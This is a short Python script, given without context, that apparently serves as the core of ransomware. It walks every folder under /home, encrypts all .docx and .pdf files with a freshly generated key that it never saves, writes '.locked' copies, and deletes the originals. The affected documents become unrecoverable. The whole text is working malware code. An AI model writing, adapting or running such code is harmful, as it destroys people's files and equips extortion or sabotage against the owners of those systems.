import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for root, dirs, files in os.walk('/home'):
    for n in files:
        if n.endswith(('.docx', '.pdf')):
            p = os.path.join(root, n)
            data = f.encrypt(open(p, 'rb').read())
            open(p + '.locked', 'wb').write(data)
            os.remove(p)
